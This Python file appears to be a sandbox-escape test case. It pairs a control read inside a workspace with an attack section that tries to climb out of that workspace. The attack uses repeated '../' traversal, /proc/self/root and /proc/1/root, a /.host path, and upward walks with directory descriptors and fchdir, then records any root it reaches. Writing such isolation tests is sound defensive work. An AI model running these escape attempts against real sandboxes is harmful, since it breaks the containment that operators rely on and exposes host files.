"""Climbs out of the workspace with `..`, `chdir`, `fchdir` and directory descriptors.

Escape: a path above the guest's root, or a canary file
Control: a relative path inside the workspace is read
"""

# control
import os

os.makedirs("a/b", exist_ok=True)
open("a/x.txt", "w").write("mine")
open("a/b/../x.txt").read() == "mine"

# attack
loot = []
target = places["open_file"].lstrip("/")
for base in (
    "../" * 30,
    "/workspace/" + "../" * 30,
    "/proc/self/root/",
    "/proc/1/root/",
    "/.host/",
    "/tmp/../../../.host/",
):
    try:
        loot.append(open(base + target).read())
    except OSError as error:
        loot.append(error.errno)
inside = os.open("/workspace/a/b", os.O_RDONLY)
above = os.open("/", os.O_PATH)
for fd in (inside, above, os.open("/.host", os.O_PATH)):
    for _ in range(20):
        try:
            fd = os.open("..", os.O_PATH | os.O_DIRECTORY, dir_fd=fd)
        except OSError:
            break
    os.fchdir(fd) if fd != above else os.chdir("/")
    loot.append(sorted(os.listdir(".")))
    if "sys" in os.listdir(".") or "home" in os.listdir("."):
        loot.append("ESCAPED: a root that is not ours")
loot
